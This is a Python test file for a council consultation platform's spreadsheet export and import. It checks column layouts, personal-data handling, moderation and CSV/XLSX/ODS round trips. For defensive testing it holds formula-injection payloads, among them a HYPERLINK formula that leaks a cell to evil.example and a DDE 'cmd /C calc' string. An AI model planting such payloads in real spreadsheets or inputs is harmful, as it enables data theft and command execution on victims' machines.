"""Responses as spreadsheets: the column layout for every question type, formula safety in every
format, and export → import giving back identical data."""

import csv
import io
import random
import re
import uuid
import zipfile
from datetime import timedelta

import openpyxl
import pytest
from django.utils import timezone

from consultations.journey import questions_of
from consultations.models import (
    Answer,
    Channel,
    Comment,
    ConsultationPage,
    ModerationStatus,
    OutcomeQuote,
    Response,
)
from consultations.question_types.base import OTHER
from consultations.responses import submit_response
from consultations.spreadsheets.exports import ExportFilters, ResponsesExport
from consultations.spreadsheets.imports import ResponseResource, import_responses
from consultations.spreadsheets.layout import HEADER_ROWS, layout_for
from demo.budget import synthetic_answer
from portal.spreadsheets import FORMULA_TRIGGERS, neutralise, read_rows, restore, starts_formula

pytestmark = pytest.mark.django_db

# Words a resident could type that a spreadsheet would otherwise run or mangle.
HOSTILE_WORDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+44 20 7946 0000 call me",
    "-5% is too much",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "==1+1",
]


def every_type(page):
    """The open demo budget consultation asks every question type."""
    return {question.type for question in questions_of(page).values()}


@pytest.fixture
def budget(demo_site):
    page = ConsultationPage.objects.get(slug="budget-2027-28")
    assert every_type(page) >= {
        "priority_ranking",
        "single_choice",
        "multiple_choice",
        "agreement_scale",
        "free_text",
        "number",
        "budget_simulator",
        "about_you",
    }
    return page


def full_answers(page, number, text):
    """Clean answers to every question, varied by `number`."""
    rng = random.Random(number)
    answers = {}
    for question in questions_of(page).values():
        value, block = question.value, question.block
        if question.type == "priority_ranking":
            ids = [item_id for item_id, _ in block.options_with_ids(value)]
            rng.shuffle(ids)
            places = value["top_n"] or len(ids)
            answers[question.id] = {"positions": {i: n + 1 for n, i in enumerate(ids[:places])}}
        elif question.type == "single_choice":
            ids = [item_id for item_id, _ in block.options_with_ids(value)]
            answers[question.id] = (
                {"option": OTHER, "other": text} if number % 2 else {"option": ids[number % 2]}
            )
        elif question.type == "multiple_choice":
            ids = [item_id for item_id, _ in block.options_with_ids(value)]
            answers[question.id] = {"options": [ids[0], ids[number % len(ids)]][: 1 + number % 2]}
        elif question.type == "agreement_scale":
            answers[question.id] = {"option": ["agree", "dont_know"][number % 2]}
        elif question.type == "number":
            answers[question.id] = {"number": ["12", "7"][number % 2]}
        elif question.type == "free_text":
            answers[question.id] = {"text": text}
        elif question.type == "budget_simulator":
            answers[question.id] = synthetic_answer(rng, value["budget"].simulator_spec)
        elif question.type == "about_you":
            wards = [item.id for item in value["wards"].bound_blocks]
            answers[question.id] = {
                "age_band": "35_44",
                "ward": wards[number % len(wards)],
                "connection": ["live", "work"][: 1 + number % 2],
                "sex": ["female", "male"][number % 2],
                "disability": "no",
                "postcode_district": "KM1",
            }
    return answers


def respond(page, number, text, channel=Channel.ONLINE):
    response, _ = submit_response(
        page,
        questions_of(page),
        full_answers(page, number, text),
        token=uuid.uuid4(),
        channel=channel,
    )
    Response.objects.filter(pk=response.pk).update(
        submitted_at=timezone.now() - timedelta(hours=number + 1)
    )
    return response


@pytest.fixture
def answered(budget):
    for number, text in enumerate(HOSTILE_WORDS):
        respond(budget, number, text, channel=[Channel.ONLINE, Channel.PAPER][number % 2])
    return budget


def exported(page, file_format, **options):
    buffer = io.BytesIO()
    ResponsesExport(page, **options).write(file_format, buffer)
    return buffer.getvalue()


def read_back(content, file_format):
    return [cells for _number, cells, _formats in read_rows(content, file_format, 500)]


# The layout ---------------------------------------------------------------------------------------


def test_columns_follow_the_question_order_with_the_ids_in_the_second_header_row(budget):
    layout = layout_for(budget)
    headings, ids = layout.header_rows()
    assert ids[:4] == ["reference", "submitted_at", "channel", "area"]
    assert headings[:4] == ["Reference", "Submitted at", "Channel", "Area"]
    order = [question.id for question in questions_of(budget).values()]
    seen = [column.question_id for column in layout.columns[4:]]
    assert sorted(set(seen), key=seen.index) == order
    assert all(ids[n] == column.key for n, column in enumerate(layout.columns))
    assert len(set(ids)) == len(ids)


def test_each_question_type_gets_its_columns(budget):
    layout = layout_for(budget)
    questions = questions_of(budget)
    by_type = {}
    for column in layout.columns[4:]:
        by_type.setdefault(questions[column.question_id].type, []).append(column)

    ranking = next(q for q in questions.values() if q.type == "priority_ranking")
    items = ranking.block.options_with_ids(ranking.value)
    assert [c.kind for c in by_type["priority_ranking"]][: len(items)] == ["position"] * len(items)
    assert by_type["priority_ranking"][0].heading.endswith(items[0][1]["label"])

    assert [c.kind for c in by_type["single_choice"]] == ["choice", "other"]
    multiple = next(q for q in questions.values() if q.type == "multiple_choice")
    options = multiple.block.options_with_ids(multiple.value)
    assert [c.kind for c in by_type["multiple_choice"]] == ["option"] * len(options)
    assert [c.kind for c in by_type["agreement_scale"]] == ["agreement"]
    assert [c.kind for c in by_type["free_text"]] == ["text"]
    assert [c.kind for c in by_type["number"]] == ["number"]

    simulator = next(q for q in questions.values() if q.type == "budget_simulator")
    spec = simulator.block.spec(simulator.value)
    kinds = [c.kind for c in by_type["budget_simulator"]]
    assert kinds == ["lever"] * (len(spec.lines) + len(spec.revenue)) + [
        "savings_found",
        "still_to_find",
        "beyond_target",
    ]
    assert by_type["budget_simulator"][0].heading.endswith(f"{spec.lines[0].name} (% change)")

    about = [c.kind for c in by_type["about_you"]]
    assert set(about) == {"about_option"}  # connection per option; age only with personal data
    assert "postcode" not in about  # personal data: only on request, for permitted staff


def test_personal_data_columns_only_when_asked_for(budget):
    plain = layout_for(budget).keys
    personal = layout_for(budget, personal_data=True)
    assert "email" not in plain and not any(k.endswith(":postcode_district") for k in plain)
    assert [c.key for c in personal.columns if c.personal and not c.equality] == [
        "email",
        next(k for k in personal.keys if k.endswith(":postcode_district")),
    ]


def test_equality_answers_are_columns_only_with_personal_data(budget):
    about = next(q.id for q in questions_of(budget).values() if q.type == "about_you")
    equality = [f"{about}:{part}" for part in ("age_band", "sex", "disability", "ethnicity")]
    plain = layout_for(budget)
    assert not set(equality) & set(plain.keys)
    assert set(equality) <= set(layout_for(budget, personal_data=True).keys)
    assert set(equality) <= set(layout_for(budget, equality_answers=True).keys)
    (what, why), *_ = plain.left_out
    assert what.endswith("About you: Age, Sex, Disability, Ethnic group")
    assert ["", what, "", why] in plain.dictionary_rows()


def test_a_row_holds_each_answer_in_the_council_s_words(answered):
    layout = layout_for(answered, personal_data=True)
    response = Response.objects.filter(consultation=answered).order_by("submitted_at").last()
    newest = list(_data_rows(answered, personal_data=True))[-1]  # response 0, the newest
    row = dict(zip(layout.keys, newest, strict=True))
    answers = full_answers(answered, 0, HOSTILE_WORDS[0])
    questions = questions_of(answered)
    assert row["reference"] == response.reference
    assert row["submitted_at"] == timezone.localtime(response.submitted_at).replace(microsecond=0)
    assert row["channel"] == "Online"
    for qid, answer in answers.items():
        question = questions[qid]
        if question.type == "priority_ranking":
            for item_id, position in answer["positions"].items():
                assert row[f"{qid}:{item_id}"] == position
        elif question.type == "multiple_choice":
            for item_id, _ in question.block.options_with_ids(question.value):
                assert row[f"{qid}:{item_id}"] == (1 if item_id in answer["options"] else None)
        elif question.type == "agreement_scale":
            assert row[qid] == "Agree"
        elif question.type == "single_choice":
            labels = question.block.option_labels(question.value)
            assert row[qid] == labels[answer["option"]]
        elif question.type == "number":
            assert row[qid] == 12
        elif question.type == "free_text":
            assert row[qid] == HOSTILE_WORDS[0]  # the original: this export has personal data
        elif question.type == "budget_simulator":
            spec = question.block.spec(question.value)
            for lever in spec.lines:
                assert row[f"{qid}:{lever.id}"] * 100 == answer["lines"][lever.id]
            assert row[f"{qid}:savings_found"] * 100 == answer["savings_found_pence"]
            assert row[f"{qid}:still_to_find"] >= 0 and row[f"{qid}:beyond_target"] >= 0
            assert (
                row[f"{qid}:savings_found"]
                + row[f"{qid}:still_to_find"]
                - row[f"{qid}:beyond_target"]
            ) * 100 == spec.target_pence
        elif question.type == "about_you":
            assert row["area"] == question.value["wards"][0].name
            assert row[f"{qid}:age_band"] == "35 to 44"
            assert row[f"{qid}:connection:live"] == 1
            assert row[f"{qid}:connection:work"] is None
            assert row[f"{qid}:postcode_district"] == "KM1"


def _data_rows(page, **options):
    rows = ResponsesExport(page, **options).rows()
    for _ in range(HEADER_ROWS):
        next(rows)
    return rows


def test_free_text_is_the_moderated_text_unless_personal_data_is_asked_for(answered):
    layout = layout_for(answered)
    text_key = next(c.key for c in layout.columns if c.kind == "text")
    comments = Comment.objects.filter(consultation=answered, question_id=text_key)
    pending, redacted, rejected, approved = (
        comments.order_by("submitted_at")[n] for n in (0, 1, 2, 3)
    )
    Comment.objects.filter(pk=redacted.pk).update(
        status=ModerationStatus.REDACTED, public_text="[removed] call me"
    )
    Comment.objects.filter(pk=rejected.pk).update(status=ModerationStatus.REJECTED)
    Comment.objects.filter(pk=approved.pk).update(
        status=ModerationStatus.APPROVED, public_text=approved.answer.text
    )
    references = {
        comment.pk: comment.answer.response.reference
        for comment in (pending, redacted, rejected, approved)
    }
    moderated = {row[0]: row[layout.keys.index(text_key)] for row in _data_rows(answered)}
    original = {
        row[0]: row[layout_for(answered, True).keys.index(text_key)]
        for row in _data_rows(answered, personal_data=True)
    }
    assert moderated[references[pending.pk]] == "[waiting for moderation]"
    assert moderated[references[rejected.pk]] == "[rejected]"
    assert moderated[references[redacted.pk]] == "[removed] call me"
    assert moderated[references[approved.pk]] == approved.answer.text
    assert original[references[redacted.pk]] == redacted.answer.text
    assert original[references[rejected.pk]] == rejected.answer.text


def test_import_export_s_own_export_gives_the_same_rows(answered):
    for personal_data in (False, True):
        dataset = ResponseResource(answered, personal_data=personal_data).export()
        rows = list(ResponsesExport(answered, personal_data=personal_data).rows())
        assert list(dataset.headers) == rows[1]
        assert [list(row) for row in dataset] == rows[HEADER_ROWS:]


def test_filters_narrow_the_responses(answered):
    export = ResponsesExport(answered, filters=ExportFilters(channels=[Channel.PAPER]))
    assert export.count() == 3
    assert all(row[2] == "Paper" for row in list(export.rows())[HEADER_ROWS:])
    days = [
        timezone.localtime(moment).date()
        for moment in Response.objects.filter(consultation=answered).values_list(
            "submitted_at", flat=True
        )
    ]
    first, last = min(days), max(days)

    def dated(start, end):
        return ExportFilters(submitted_from=start, submitted_to=end)

    assert ResponsesExport(answered, filters=dated(None, first - timedelta(days=1))).count() == 0
    assert ResponsesExport(answered, filters=dated(first, last)).count() == len(days)
    assert ResponsesExport(answered, filters=dated(last, None)).count() == days.count(last)
    layout = layout_for(answered)
    wards = layout.columns[3].choices
    by_area = ResponsesExport(answered, filters=ExportFilters(areas=[wards[0][0]]))
    assert {row[3] for row in list(by_area.rows())[HEADER_ROWS:]} == {wards[0][1]}
    assert ResponsesExport(answered, filters=ExportFilters(areas=["not_stated"])).count() == 0
    pending = ExportFilters(moderation_statuses=[ModerationStatus.PENDING])
    assert ResponsesExport(answered, filters=pending).count() == len(HOSTILE_WORDS)
    rejected = ExportFilters(moderation_statuses=[ModerationStatus.REJECTED])
    assert ResponsesExport(answered, filters=rejected).count() == 0


# Formula safety -------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\nx", "'=x", "''x"])
def test_neutralise_and_restore_are_inverse_and_safe(text):
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_TRIGGERS)
    assert restore(safe) == text


def _plant(page, words):
    """Put words no form would let through (a leading tab or CR) straight into the database."""
    answers = Answer.objects.filter(response__consultation=page, comment__isnull=False)
    for answer, text in zip(answers.order_by("pk"), words, strict=False):
        Answer.objects.filter(pk=answer.pk).update(text=text)
        Comment.objects.filter(answer=answer).update(
            status=ModerationStatus.APPROVED, public_text=text
        )


PLANTED = [
    *HOSTILE_WORDS,
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "\n@x",
    # Full-width, and after spaces: spreadsheets read these as formulas too.
    '＝HYPERLINK("http://evil.example/?"&A1)',
    "＋44 20 7946 0000",
    "－2+3",
    "＠SUM(1+1)",
    " =1+1",
    "\u3000@SUM(A1)",
]


@pytest.fixture
def planted(answered):
    """Every hostile word, planted straight in the database, each in a response of its own."""
    for number in range(len(HOSTILE_WORDS), len(PLANTED)):
        respond(answered, number + 1, "filler")
    _plant(answered, PLANTED)
    return answered


@pytest.mark.parametrize("personal_data", [False, True])
def test_no_csv_cell_starts_a_formula(planted, personal_data):
    answered = planted
    content = exported(answered, "csv", personal_data=personal_data)
    assert content.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    for text in PLANTED:
        assert "'" + text in cells
    for cell in cells:
        if starts_formula(cell):
            assert re.fullmatch(r"-\d+(\.\d+)?", cell), cell  # negative numbers only


@pytest.mark.parametrize("personal_data", [False, True])
def test_no_xlsx_cell_is_a_formula(planted, personal_data):
    answered = planted
    content = exported(answered, "xlsx", personal_data=personal_data)
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    assert not starts_formula(cell.value), cell.value
                    texts.append(cell.value)

    def flat(text):  # XML reads a carriage return back as a line feed
        return text.replace("\r", "\n")

    for text in PLANTED:
        assert flat("'" + text) in [flat(t) for t in texts]


@pytest.mark.parametrize("personal_data", [False, True])
def test_no_ods_cell_is_a_formula(planted, personal_data):
    answered = planted
    content = exported(answered, "ods", personal_data=personal_data)
    xml = zipfile.ZipFile(io.BytesIO(content)).read("content.xml").decode()
    assert "table:formula" not in xml
    for row in read_back(content, "ods"):
        for cell in row:
            if isinstance(cell, str) and starts_formula(cell):
                pytest.fail(f"{cell!r} would start a formula")
    assert zipfile.ZipFile(io.BytesIO(content)).namelist()[0] == "mimetype"


# Round trip ----------------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "ods"])
def test_export_then_import_gives_back_identical_data(answered, file_format):
    before = list(ResponsesExport(answered, personal_data=True).rows())
    content = exported(answered, file_format, personal_data=True)
    OutcomeQuote.objects.all().delete()
    Response.objects.filter(consultation=answered).delete()

    report = import_responses(answered, content, file_format, dry_run=True)
    assert (report.errors, report.file_errors, report.new) == ([], [], len(HOSTILE_WORDS))
    assert not Response.objects.filter(consultation=answered).exists()  # a dry run stores nothing

    report = import_responses(answered, content, file_format, dry_run=False)
    assert report.new == len(HOSTILE_WORDS) and not report.has_errors
    after = list(ResponsesExport(answered, personal_data=True).rows())
    email = before[1].index("email")
    for row in before[HEADER_ROWS:]:
        row[email] = None  # accounts are not imported: a paper response has none
    assert after == before
    # Imported words wait for moderation like any other.
    assert not Comment.objects.filter(consultation=answered).exclude(status="pending").exists()


def test_importing_the_same_file_twice_adds_nothing(answered):
    content = exported(answered, "csv", personal_data=True)
    OutcomeQuote.objects.all().delete()
    Response.objects.filter(consultation=answered).delete()
    assert import_responses(answered, content, "csv", dry_run=False).new == len(HOSTILE_WORDS)
    again = import_responses(answered, content, "csv", dry_run=False)
    assert (again.new, again.skipped, again.has_errors) == (0, len(HOSTILE_WORDS), False)
    assert Response.objects.filter(consultation=answered).count() == len(HOSTILE_WORDS)


def test_one_invalid_row_means_nothing_is_imported(answered):
    rows = list(ResponsesExport(answered, personal_data=True).rows())
    OutcomeQuote.objects.all().delete()
    Response.objects.filter(consultation=answered).delete()
    agreement = next(c.key for c in layout_for(answered).columns if c.kind == "agreement")
    rows[-1][rows[1].index(agreement)] = "Quite keen"
    buffer = io.BytesIO()
    from portal.spreadsheets import write_csv

    write_csv(rows, buffer)
    report = import_responses(answered, buffer.getvalue(), "csv", dry_run=False)
    assert report.has_errors
    (number, heading, message), *_ = report.errors
    assert number == len(rows)  # the last row of the sheet, as the spreadsheet numbers it
    assert heading.startswith("Q") and "‘Quite keen’ is not one of the answers" in message
    assert not Response.objects.filter(consultation=answered).exists()


def test_the_demo_sample_of_paper_responses_imports_cleanly_however_long_ago_it_was_seeded(
    demo_site, tmp_path
):
    from django.core.management import call_command

    from demo.consultations import PAPER_RESPONSES_CONSULTATION

    target = tmp_path / "paper.csv"
    call_command("demo_paper_responses", output=str(target))
    page = ConsultationPage.objects.get(slug=PAPER_RESPONSES_CONSULTATION)
    report = import_responses(page, target.read_bytes(), "csv", dry_run=False)
    assert (report.errors, report.file_errors, report.new) == ([], [], 12)
    assert Response.objects.filter(consultation=page, channel=Channel.PAPER).count() >= 12


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_outside_a_transaction_batches_are_read_ahead_with_the_same_rows(budget, monkeypatch):
    """Committed data, as in production: the next batch is read on a second connection.

    A transactional test empties the database when it ends; `serialized_rollback` puts back what
    the migrations made (Wagtail's root page, content types, officer groups) before it starts, so
    it passes after any other transactional test, and those after it find what they expect.
    """
    from django.db import connection, transaction

    from consultations.spreadsheets import exports

    for number, text in enumerate(HOSTILE_WORDS):
        respond(budget, number, text)
    monkeypatch.setattr(exports, "BATCH", 2)
    assert not connection.in_atomic_block
    read_ahead = list(ResponsesExport(budget, personal_data=True).rows())
    with transaction.atomic():
        in_turn = list(ResponsesExport(budget, personal_data=True).rows())
    assert len(read_ahead) == HEADER_ROWS + len(HOSTILE_WORDS)
    assert read_ahead == in_turn
